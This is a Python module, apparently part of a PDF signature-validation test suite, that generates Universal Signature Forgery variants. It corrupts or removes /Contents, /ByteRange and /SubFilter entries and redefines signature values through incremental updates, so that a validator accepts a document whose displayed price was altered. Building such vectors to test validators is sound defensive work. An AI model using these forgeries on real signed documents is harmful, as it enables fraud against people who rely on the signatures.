"""Universal signature forgery (USF): the signature's own entries spoiled, so that a careless judge stops before it compares anything.

Every variant shows another price, which nobody has signed.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from vectors.attacks import bytework
from vectors.attacks.bytework import repriced
from vectors.attacks.samples import attack

GROUP = "Universal signature forgery"
TWINS = ("service-bt", "service-p1", "house-closed")
_RANGE = re.compile(rb"/ByteRange \[[^\]]*\] *")


def _ranged(pdf: bytes, new: bytes) -> bytes:
    """The last /ByteRange entry overwritten, key and all."""
    old = _RANGE.findall(pdf)[-1]
    return bytework.in_place(repriced(pdf), old.rstrip(b"\n"), new)


def _held(pdf: bytes, new: bytes) -> bytes:
    """The last /Contents entry overwritten, key and all; no offset moves."""
    start, end = bytework.gap(pdf)
    key = pdf.rindex(b"/Contents", 0, start)
    return repriced(pdf[:key] + new.ljust(end - key) + pdf[end:])


@attack(GROUP, *TWINS)
def contents_missing(pdf: bytes) -> bytes:
    """/Contents is gone."""
    return _held(pdf, b"")


@attack(GROUP, *TWINS)
def contents_without_value(pdf: bytes) -> bytes:
    """/Contents stands without a value."""
    return _held(pdf, b"/Contents")


@attack(GROUP, *TWINS)
def contents_null(pdf: bytes) -> bytes:
    """/Contents is null."""
    return _held(pdf, b"/Contents null")


@attack(GROUP, *TWINS)
def contents_empty(pdf: bytes) -> bytes:
    """/Contents is an empty string."""
    return _held(pdf, b"/Contents <>")


@attack(GROUP, *TWINS)
def contents_one_zero(pdf: bytes) -> bytes:
    """/Contents is one zero byte."""
    return _held(pdf, b"/Contents <00>")


@attack(GROUP, "service-bt", "house-closed")
def contents_zeros(pdf: bytes) -> bytes:
    """/Contents keeps its length and holds nothing but zeros."""
    start, end = bytework.gap(pdf)
    return repriced(pdf[: start + 1] + b"0" * (end - start - 2) + pdf[end - 1 :])


@attack(GROUP, "service-bt", "house-closed")
def contents_reference_to_nothing(pdf: bytes) -> bytes:
    """/Contents refers to an object that is not there."""
    return _held(pdf, b"/Contents 999 0 R")


@attack(GROUP, "service-bt")
def contents_literal(pdf: bytes) -> bytes:
    """/Contents is a literal string of letters."""
    return _held(pdf, b"/Contents (signed)")


@attack(GROUP, *TWINS)
def range_missing(pdf: bytes) -> bytes:
    """/ByteRange is gone."""
    return _ranged(pdf, b"")


@attack(GROUP, *TWINS)
def range_without_value(pdf: bytes) -> bytes:
    """/ByteRange stands without a value."""
    return _ranged(pdf, b"/ByteRange")


@attack(GROUP, *TWINS)
def range_null(pdf: bytes) -> bytes:
    """/ByteRange is null."""
    return _ranged(pdf, b"/ByteRange null")


def _range_of(*numbers: int | str) -> Callable[[bytes], bytes]:
    told = " ".join(str(number) for number in numbers).encode()
    return lambda pdf: _ranged(pdf, b"/ByteRange [" + told + b"]")


for _name, _told, _numbers in (
    ("range_empty", "/ByteRange is empty.", ()),
    ("range_zeros", "/ByteRange covers nothing: four zeros.", (0, 0, 0, 0)),
    ("range_negative", "/ByteRange has a negative length.", (0, -1, 100, 100)),
    ("range_backwards", "/ByteRange begins behind the end.", (0, 100, -100, 100)),
    ("range_overlapping", "/ByteRange covers the same bytes twice.", (0, 900, 100, 800)),
    ("range_huge", "/ByteRange reaches far behind the file.", (0, 500, 600, 99999999999)),
    ("range_of_three", "/ByteRange has three numbers.", (0, 500, 600)),
    ("range_of_names", "/ByteRange holds names.", ("/A", "/B", "/C", "/D")),
    ("range_of_nulls", "/ByteRange holds nulls.", ("null", "null", "null", "null")),
    ("range_header_only", "/ByteRange covers the first bytes of the file only.", (0, 8, 8, 8)),
):
    _made = _range_of(*_numbers)
    _made.__name__, _made.__doc__ = _name, _told
    attack(GROUP, "service-bt", *(("house-closed",) if _name in ("range_zeros", "range_negative", "range_huge") else ()))(_made)


@attack(GROUP, "service-bt", "house-closed")
def subfilter_odd(pdf: bytes) -> bytes:
    """/SubFilter names a form nobody knows."""
    old = re.findall(rb"/SubFilter /[A-Za-z0-9.]+", pdf)[-1]
    return repriced(bytework.in_place(pdf, old, b"/SubFilter /none"))


@attack(GROUP, "service-bt", "house-closed")
def subfilter_missing(pdf: bytes) -> bytes:
    """/SubFilter is gone."""
    old = re.findall(rb"/SubFilter /[A-Za-z0-9.]+", pdf)[-1]
    return repriced(bytework.in_place(pdf, old, b""))


@attack(GROUP, "service-bt")
def subfilter_raw_rsa(pdf: bytes) -> bytes:
    """/SubFilter says adbe.x509.rsa_sha1, which needs a /Cert that is not there."""
    return repriced(bytework.in_place(pdf, b"/SubFilter /ETSI.CAdES.detached", b"/SubFilter /adbe.x509.rsa_sha1"))


@attack(GROUP, "service-bt")
def as_timestamp(pdf: bytes) -> bytes:
    """A signature that says it is a document timestamp."""
    return repriced(bytework.in_place(pdf, b"/SubFilter /ETSI.CAdES.detached", b"/SubFilter /ETSI.RFC3161"))


@attack(GROUP, "service-bt", "house-sealed")
def value_refers_to_nothing(pdf: bytes) -> bytes:
    """An update lets the field's value refer to an object that is not there, and rewrites the page."""
    name, value = bytework.last_signature(pdf)
    number = bytework.field_number(pdf, name)
    held = bytework.body(pdf, number).replace(b"/V %d 0 R" % value, b"/V 999 0 R")
    return bytework.behind(pdf, {number: held, bytework.content_number(pdf): bytework.stream(bytework.FORGED_WORDS)})


@attack(GROUP, "service-bt", "house-sealed")
def value_redefined(pdf: bytes) -> bytes:
    """An update puts a signature dictionary without /Contents in the place of the signed one, and rewrites the page."""
    _name, value = bytework.last_signature(pdf)
    empty = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /Name (Fictional Signer) >>"
    return bytework.behind(pdf, {value: empty, bytework.content_number(pdf): bytework.stream(bytework.FORGED_WORDS)})


@attack(GROUP, "service-bt", "house-sealed")
def value_of_zeros(pdf: bytes) -> bytes:
    """An update puts a signature dictionary with a fitting /ByteRange and an empty CMS in the place of the signed one."""
    _name, value = bytework.last_signature(pdf)
    empty = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 %d %d 10] /Contents <3000> >>" % (
        len(pdf),
        len(pdf) + 6,
    )
    return bytework.behind(pdf, {value: empty, bytework.content_number(pdf): bytework.stream(bytework.FORGED_WORDS)})
